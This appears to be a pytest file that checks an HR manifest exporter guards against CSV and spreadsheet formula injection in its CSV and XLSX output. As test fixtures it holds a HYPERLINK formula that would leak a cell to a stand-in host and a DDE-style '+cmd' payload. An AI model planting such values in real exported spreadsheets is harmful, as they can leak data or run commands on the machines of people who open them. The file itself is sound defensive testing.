"""The manifest as HR opens it: the CSV in LibreOffice and as Excel reads it, and manifest.xlsx."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import load_workbook

from rolereport.jobs.manifest import MANIFEST_XLSX, ManifestRow, header, read_manifest, write_manifest

HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A3,"click")'
ROWS = [
    ManifestRow(name=HOSTILE, id="h-1", email="h@example.com", slug="h-1", input="staff.csv row 2",
                status="ok", warnings=("staff.csv: row 2, field 'name': warning: joined", "-x"),
                run="2026-12-01T08:00:00Z 123",
                files={"pdf": ("career-guide.pdf", 12345, "a" * 64)}),
    ManifestRow(name="José Müller", id="", input="staff.csv row 3", status="failed",
                error="staff.csv: row 3, field 'id': '@x' cannot name files"),
    ManifestRow(name="+cmd|' /C calc'!A0", input="staff.csv row 4", status="failed", error="-bad"),
]


@pytest.fixture
def out(tmp_path) -> Path:
    folder = tmp_path / "batch"
    folder.mkdir()
    write_manifest(folder, ROWS, ["pdf"])
    return folder


def excel_decode(data: bytes) -> str:
    """How Excel on Windows opens a double-clicked CSV: UTF-8 if it starts with a BOM, else the
    ANSI code page (windows-1252 in Western locales)."""
    return data[3:].decode("utf-8") if data.startswith(b"\xef\xbb\xbf") else data.decode("cp1252")


def test_excel_reads_the_accents_right_thanks_to_the_bom(out):
    data = (out / "manifest.csv").read_bytes()
    text = excel_decode(data)
    assert "José Müller" in text
    assert "JosÃ©" in excel_decode(data[3:])  # control: the same bytes without the BOM


def test_manifest_round_trips(out):
    rows = read_manifest(out / "manifest.csv")
    assert [r["name"] for r in rows] == [r.name for r in ROWS]
    assert rows[0]["warnings"] == " | ".join(ROWS[0].warnings)
    assert rows[2]["error"] == "-bad"


def test_manifest_xlsx_is_a_table_of_text_cells(out):
    wb = load_workbook(out / MANIFEST_XLSX)
    ws = wb.active
    assert list(ws.tables) == ["Manifest"]
    table = ws.tables["Manifest"]
    assert table.ref == "A1:M4" and table.autoFilter is not None
    assert [c.name for c in table.tableColumns] == header(["pdf"])
    assert [c.value for c in ws[1]] == header(["pdf"])
    assert ws.freeze_panes == "A2"
    cols = {c: i for i, c in enumerate(header(["pdf"]))}
    first = ws[2]
    assert first[cols["name"]].value == HOSTILE and first[cols["name"]].data_type == "s"
    assert first[cols["name"]].quotePrefix
    assert ws[4][cols["name"]].data_type == "s" and ws[4][cols["name"]].quotePrefix
    assert ws[4][cols["error"]].value == "-bad" and ws[4][cols["error"]].quotePrefix
    assert ws[3][cols["name"]].value == "José Müller" and not ws[3][cols["name"]].quotePrefix
    assert first[cols["pdf_bytes"]].value == 12345  # a number: HR can sort and sum sizes
    assert first[cols["pdf_file"]].value == "h-1/career-guide.pdf"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    widths = {k: ws.column_dimensions[k].width for k in ("A", "B", "H")}  # H: error
    assert widths["A"] == 40 and widths["H"] >= 40  # long text: wide, within a cap
    assert 8 <= widths["B"] < 12  # a short column stays narrow


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_shows_a_formula_like_name_as_text(out, tmp_path):
    """Convert the manifest CSV with LibreOffice's own CSV import (UTF-8, comma) and read the cells
    it made; a CSV written without neutralising is the control that the import does run formulas."""
    raw = tmp_path / "raw.csv"
    raw.write_text(f"name,id\r\n{HOSTILE.replace(',', ';')},1\r\n", encoding="utf-8")
    converted = tmp_path / "converted"
    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless",
                    "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(converted),
                    str(out / "manifest.csv"), str(raw)], check=True, capture_output=True, timeout=180)
    ws = load_workbook(converted / "manifest.xlsx").active
    names = [ws.cell(row=r, column=1) for r in range(2, 5)]
    assert [c.data_type for c in names] == ["s", "s", "s"]
    assert names[0].value == "'" + HOSTILE and names[1].value == "José Müller"
    assert names[2].value.startswith("'+cmd")
    control = load_workbook(converted / "raw.xlsx").active.cell(row=2, column=1)
    assert control.data_type == "f"  # unneutralised, LibreOffice makes it a live formula
